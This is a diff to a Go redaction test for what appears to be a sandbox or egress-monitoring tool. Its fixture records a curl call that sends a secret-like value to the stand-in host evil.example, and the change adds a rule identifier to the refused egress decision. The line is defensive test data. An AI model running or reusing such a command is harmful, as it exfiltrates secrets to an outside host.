@@ -50,13 +50,13 @@ func TestRedact(t *testing.T) {
 			{Binary: "/usr/bin/evil.example", Argv: []string{"curl", "https://evil.example/s3cr3t-value-42", "ab", "abc"}},
 			{Binary: "/bin/echo", Argv: []string{"x", "tail s3cr3t-va"}, ArgvTruncated: true},
 		}},
-		Egress: &egress.Report{Decisions: []rules.Decision{{Name: "evil.example", Path: "/s3cr3t-value-42", Reason: "refused evil.example"}}},
+		Egress: &egress.Report{Decisions: []rules.Decision{{Name: "evil.example", Path: "/s3cr3t-value-42", Reason: "refused evil.example", RuleID: rules.RuleID{Kind: rules.KindAllow, Index: -1, Detail: "evil.example"}}}},
 		Trust:  &trust.Report{Findings: []trust.Finding{{Path: ".github/x", Diff: "+token: s3cr3t-value-42"}}},
 	}
 	redact(&res, v)
 	e := res.Processes.Execs
-	if e[0].Binary != "/usr/bin/evil.example" || res.Egress.Decisions[0].Name != "evil.example" {
-		t.Errorf("identity fields were blanked: %q %q", e[0].Binary, res.Egress.Decisions[0].Name)
+	if e[0].Binary != "/usr/bin/evil.example" || res.Egress.Decisions[0].Name != "evil.example" || res.Egress.Decisions[0].RuleID.Detail != "evil.example" {
+		t.Errorf("identity fields were blanked: %q %q %+v", e[0].Binary, res.Egress.Decisions[0].Name, res.Egress.Decisions[0].RuleID)
 	}
 	if got := strings.Join(e[0].Argv, " "); got != "curl https://***/*** *** abc" {
 		t.Errorf("argv %q", got)
